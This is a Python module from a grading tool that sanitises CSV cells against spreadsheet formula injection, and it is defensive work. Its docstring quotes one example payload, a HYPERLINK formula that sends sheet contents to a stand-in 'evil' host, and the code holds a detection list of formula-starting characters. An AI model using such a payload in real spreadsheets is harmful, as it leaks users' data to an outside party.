"""Every CSV deepgrade writes, written here: cells a spreadsheet reads as data, never as formulas.

Names, SIDs and emails come from the students (Gradescope lets them choose their display name),
and messages can quote their code. Excel, LibreOffice and Google Sheets evaluate a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (and one after a leading tab or carriage return) as a
formula: ``=HYPERLINK("http://evil/?"&A1,"click")`` leaks the sheet, ``+1+1`` turns a SID into
another number (CSV injection, OWASP). So, as OWASP recommends, such a cell is prefixed with a
single quote, which every spreadsheet shows as text; the cell's other characters are kept, so a
person still reads what the student wrote. Importers that read the CSV's bytes (Canvas,
Gradescope) get the quote as part of the text: a SID or email that starts with one of these
characters is not a real one, so that row does not match a student there (docs/grading.md,
"The gradebook and the import files").
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

# What makes a spreadsheet evaluate a cell (OWASP "CSV Injection"): the first character, also
# after leading spaces or line breaks, which Excel skips before it looks for a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """``value`` as the text of one CSV cell that no spreadsheet evaluates."""
    # A bare carriage return is a line end to most readers but is not quoted by the csv
    # module (its line terminator here is "\n"): it would split the row. Made a newline, which
    # is quoted and stays inside the cell.
    text = ("" if value is None else str(value)).replace("\r\n", "\n").replace("\r", "\n")
    if text.startswith(FORMULA_START) or text.lstrip(" \n\t\r").startswith(FORMULA_START):
        return "'" + text
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """``rows`` as CSV text (``\\n`` line ends, minimal quoting), every cell ``safe_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([safe_cell(c) for c in row])
    return buffer.getvalue()
